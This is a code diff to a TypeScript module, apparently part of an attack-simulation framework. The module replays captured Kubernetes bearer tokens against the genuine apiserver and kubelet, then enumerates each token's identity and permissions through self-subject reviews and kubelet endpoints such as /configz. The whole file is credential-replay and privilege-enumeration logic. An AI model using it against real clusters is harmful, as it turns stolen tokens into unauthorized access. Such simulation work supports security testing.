@@ -1,14 +1,17 @@
-import { text } from 'node:stream/consumers';
 import type { Endpoint, Host } from '../network/network';
+import { readSome } from '../network/read-some';
+import { timeLimit } from '../network/time-limit';
 import { exchange } from '../network/transport';
-import { type HeaderList, headerValue } from '../wire/http-head';
+import { asksForUpgrade, type HeaderList } from '../wire/http-head';
+import { readApiRequest } from './apiserver-request';
+import { fieldsIn, isFields, parseFields } from './fields';
 import { GenuineEndpoint } from './genuine';
-import type { LootBag, LootRequest } from './loot';
+import type { LootBag } from './loot';
 import { OpenSockets } from './open-sockets';
 
 /** What one captured bearer token was good for, as the genuine server itself said. */
 export interface Replay {
-  /** The captured request that was sent again with it, and the status; null when none was worth it. */
+  /** The captured request that was sent again with it; null when there was none that takes a token. */
   readonly request: string | null;
   /** Of the answer; 0 when there was none. */
   readonly status: number;
@@ -19,72 +22,106 @@ export interface Replay {
 }
 
 /** A token that the server knows nothing of gets 401, one that may not do this 403: with both, nothing was gained. */
-export function replayWorked({ status, identity, allowed }: Replay): boolean {
-  return (status >= 200 && status < 300) || identity !== null || allowed.length > 0;
+export function replayWorked(replay: Replay): boolean {
+  return requestWorked(replay) || replay.identity !== null || replay.allowed.length > 0;
 }
 
-const TIMEOUT_MS = 5_000;
+export function requestWorked({ request, status }: Replay): boolean {
+  return request !== null && status >= 200 && status < 300;
+}
+
 const REVIEW = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
 const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
 const NAMESPACES = ['default', 'kube-system'];
 /** Of a kubelet, from the harmless to the worst that a GET can open. */
 const KUBELET_ENDPOINTS = ['/metrics', '/stats/summary', '/pods', '/configz'];
 
+/** A victim can send as many tokens as it likes, and a server can take as long as it likes: neither is waited for. */
+const MOST_TOKENS = 8;
+const MOST_ANSWER_BYTES = 1024 * 1024;
+const MOST_RULES = 100;
+const MOST_CHARACTERS = 1000;
+
+export interface ReplayLimits {
+  readonly answerMs: number;
+  /** For all tokens. */
+  readonly altogetherMs: number;
+}
+
+const patience: ReplayLimits = { answerMs: 5_000, altogetherMs: 20_000 };
+
+export interface ReplayServers {
+  readonly genuine: Endpoint;
+  readonly apiserver: Endpoint;
+}
+
 /**
- * Goes to the genuine server with every token in the loot, from the attacker's own machine and with no certificate: sends
+ * Goes to the genuine server with the tokens in the loot, from the attacker's own machine and with no certificate: sends
  * a captured request again, then asks the apiserver who it is and what it may do. What it is answered goes into the loot.
+ * Never rejects: whatever servers do is an answer.
  */
 export async function replayTokens(
   host: Host,
-  servers: { readonly genuine: Endpoint; readonly apiserver: Endpoint },
+  servers: ReplayServers,
   loot: LootBag,
+  limits: ReplayLimits = patience,
 ): Promise<void> {
-  for (const [index, { value }] of loot.credentials.entries()) {
-    loot.replays.push(await replayToken(host, servers, value, loot, `replay-${index}`));
+  const end = timeLimit(limits.altogetherMs);
+  const sendable = loot.credentials.filter(({ value }) => /^[\x21-\x7e]+$/.test(value));
+  for (const [index, { value }] of sendable.slice(0, MOST_TOKENS).entries()) {
+    if (end.aborted) return;
+    const ask = asker(host, servers, () => timeLimit(limits.answerMs, end));
+    loot.replays.push(await replayToken(ask, servers, value, loot, `replay-${index}`));
   }
 }
 
 async function replayToken(
-  host: Host,
-  { genuine, apiserver }: { readonly genuine: Endpoint; readonly apiserver: Endpoint },
+  ask: Ask,
+  { genuine, apiserver }: ReplayServers,
   token: string,
   loot: LootBag,
   lane: string,
 ): Promise<Replay> {
-  const ask = async (method: string, path: string, body?: object) => {
-    const at = body === undefined ? genuine : apiserver;
-    const answer = await askServer(host, at, { method, path, token, ...(body && { body }) });
-    host.timeline.record(host.name, null, 'credential-replayed', { method, path, status: answer.status });
-    return answer;
-  };
   const captured = loot.requests.find(
-    (it) => it.method === 'GET' && carries(it.headers, token) && !isWatch(it),
+    ({ method, path, headers }) =>
+      method === 'GET' &&
+      carries(headers, token) &&
+      !asksForUpgrade(headers) &&
+      // That would never end.
+      readApiRequest(path)?.watch !== true,
   );
-  const again = captured === undefined ? null : await ask('GET', captured.path);
+  const again = captured === undefined ? null : await openedBy(ask, token, captured.path);
   if (again !== null) {
     loot.keep('down', lane, Buffer.from(again.text));
     loot.noteAnswer(again.status).addText(Buffer.from(again.text));
   }
-  const identity = usernameOf((await ask('POST', REVIEW, selfSubjectReview)).text);
+  const identity = usernameOf(await ask({ method: 'POST', path: REVIEW, token, body: selfSubjectReview }));
   const allowed: string[] = [];
   if (genuine.port !== apiserver.port || genuine.address !== apiserver.address) {
     for (const path of KUBELET_ENDPOINTS) {
-      const { status } = await ask('GET', path);
-      if (status >= 200 && status < 300) allowed.push(`get ${path} of the kubelet`);
+      const answer = await openedBy(ask, token, path);
+      if (answer !== null && isSuccess(answer)) allowed.push(`get ${path} of the kubelet`);
     }
   }
   if (identity !== null) {
     for (const namespace of NAMESPACES) {
-      const { text: rules } = await ask('POST', RULES, rulesReview(namespace));
-      allowed.push(...rulesOf(rules).filter((rule) => !allowed.includes(rule)));
+      const rules = rulesOf(await ask({ method: 'POST', path: RULES, token, body: rulesReview(namespace) }));
+      allowed.push(...rules.filter((rule) => !allowed.includes(rule)));
     }
   }
   return {
-    request: captured === undefined ? null : `GET ${captured.path}`,
+    request: captured === undefined || again === null ? null : cut(`GET ${captured.path}`),
     status: again?.status ?? 0,
     identity,
     allowed,
   };
+}
+
+/** What is answered to the token; null where whoever comes without one is let in too, which says nothing of the token. */
+async function openedBy(ask: Ask, token: string, path: string): Promise<Answer | null> {
+  const answer = await ask({ method: 'GET', path, token });
+  if (!isSuccess(answer)) return answer;
+  return isSuccess(await ask({ method: 'GET', path, token: null })) ? null : answer;
 }
 
 const selfSubjectReview = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' };
@@ -94,86 +131,104 @@ function rulesReview(namespace: string): object {
 }
 
 function carries(headers: HeaderList, token: string): boolean {
-  return headerValue(headers, 'authorization')?.endsWith(token) ?? false;
-}
-
-/** It would never end. */
-function isWatch({ path }: LootRequest): boolean {
-  return /[?&]watch=(?:true|1)/.test(path);
+  return headers.some(
+    ([name, value]) => name.toLowerCase() === 'authorization' && value.replace(/^bearer +/i, '') === token,
+  );
 }
 
 interface Question {
   readonly method: string;
   readonly path: string;
-  readonly token: string;
+  readonly token: string | null;
+  /** Only the apiserver is asked with one. */
   readonly body?: object;
+}
+
+interface Answer {
+  /** 0 when there was none. */
+  readonly status: number;
+  readonly text: string;
+}
+
+type Ask = (question: Question) => Promise<Answer>;
+
+function isSuccess({ status }: Answer): boolean {
+  return status >= 200 && status < 300;
+}
+
+function asker(host: Host, { genuine, apiserver }: ReplayServers, limit: () => AbortSignal): Ask {
+  return async (question) => {
+    const { method, path, token, body } = question;
+    const answer = await askServer(host, body === undefined ? genuine : apiserver, question, limit());
+    if (token !== null) {
+      host.timeline.record(host.name, null, 'credential-replayed', { method, path, status: answer.status });
+    }
+    return answer;
+  };
 }
 
 async function askServer(
   host: Host,
   at: Endpoint,
   { method, path, token, body }: Question,
-): Promise<{ readonly status: number; readonly text: string }> {
+  signal: AbortSignal,
+): Promise<Answer> {
   const held = new OpenSockets();
+  const close = (): void => void held.close();
+  signal.addEventListener('abort', close, { once: true });
   try {
-    const peer = await new GenuineEndpoint(host, at, held).reach({ kind: 'tls', alpn: [] });
+    const peer = await new GenuineEndpoint(host, at, held).reach({ kind: 'tls', alpn: [] }, signal);
     if (peer.kind === 'refusal') return { status: 0, text: peer.text };
     const content = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
-    const answer = await exchange(
-      peer,
-      {
-        method,
-        path,
-        headers: [
-          ['Host', `${at.address}:${at.port}`],
-          ['Authorization', `Bearer ${token}`],
-          ['Accept', 'application/json'],
-          ...(content === undefined
-            ? []
-            : ([
-                ['Content-Type', 'application/json'],
-                ['Content-Length', String(content.length)],
-              ] as const)),
-        ],
-        ...(content === undefined ? {} : { body: content }),
-      },
-      AbortSignal.timeout(TIMEOUT_MS),
-    );
+    const headers: (readonly [string, string])[] = [
+      ['Host', `${at.address}:${at.port}`],
+      ['Accept', 'application/json'],
+    ];
+    if (token !== null) headers.push(['Authorization', `Bearer ${token}`]);
+    if (content !== undefined) {
+      headers.push(['Content-Type', 'application/json'], ['Content-Length', String(content.length)]);
+    }
+    const request = { method, path, headers, ...(content === undefined ? {} : { body: content }) };
+    const answer = await exchange(peer, request, signal);
     if (answer.kind === 'refusal') return { status: 0, text: answer.text };
     if (answer.kind === 'upgraded') return { status: answer.status, text: '' };
-    return { status: answer.status, text: await text(answer.body).catch(() => '') };
+    return { status: answer.status, text: await readSome(answer.body, MOST_ANSWER_BYTES) };
   } finally {
+    signal.removeEventListener('abort', close);
     await held.close();
   }
 }
 
-function usernameOf(answer: string): string | null {
-  const review = parse(answer) as { status?: { userInfo?: { username?: unknown } } } | null;
-  const username = review?.status?.userInfo?.username;
-  return typeof username === 'string' && username !== 'system:anonymous' ? username : null;
-}
-
-interface ResourceRule {
-  readonly verbs?: readonly string[];
-  readonly resources?: readonly string[];
-  readonly resourceNames?: readonly string[];
+function usernameOf(answer: Answer): string | null {
+  if (!isSuccess(answer)) return null;
+  const { username } = fieldsIn(statusIn(answer), 'userInfo') as { username?: unknown };
+  if (typeof username !== 'string' || username === '' || username === 'system:anonymous') return null;
+  return cut(username);
 }
 
 /** As `kubectl auth can-i --list` puts it together, without what everybody may: the reviews of oneself. */
-function rulesOf(answer: string): string[] {
-  const review = parse(answer) as { status?: { resourceRules?: readonly ResourceRule[] } } | null;
-  return (review?.status?.resourceRules ?? [])
-    .filter(({ resources = [] }) => !resources.every((it) => it.startsWith('selfsubject')))
-    .map(({ verbs = [], resources = [], resourceNames = [] }) => {
-      const names = resourceNames.length === 0 ? '' : ` ${resourceNames.join(',')}`;
-      return `${verbs.join(',')} ${resources.join(',')}${names}`;
+function rulesOf(answer: Answer): string[] {
+  const { resourceRules } = statusIn(answer) as { resourceRules?: unknown };
+  if (!isSuccess(answer) || !Array.isArray(resourceRules)) return [];
+  return resourceRules
+    .filter(isFields)
+    .filter((rule) => !textsIn(rule['resources']).every((it) => it.startsWith('selfsubject')))
+    .slice(0, MOST_RULES)
+    .map((rule) => {
+      const names = textsIn(rule['resourceNames']).join(',');
+      const verbs = textsIn(rule['verbs']).join(',');
+      return cut(`${verbs} ${textsIn(rule['resources']).join(',')}${names === '' ? '' : ` ${names}`}`);
     });
 }
 
-function parse(json: string): unknown {
-  try {
-    return JSON.parse(json);
-  } catch {
-    return null;
-  }
+function statusIn({ text }: Answer): ReturnType<typeof fieldsIn> {
+  return fieldsIn(parseFields(text) ?? {}, 'status');
+}
+
+function textsIn(value: unknown): string[] {
+  return Array.isArray(value) ? value.filter((it): it is string => typeof it === 'string') : [];
+}
+
+function cut(text: string): string {
+  return text.length <= MOST_CHARACTERS ? text : `${text.slice(0, MOST_CHARACTERS)}…`;
 }
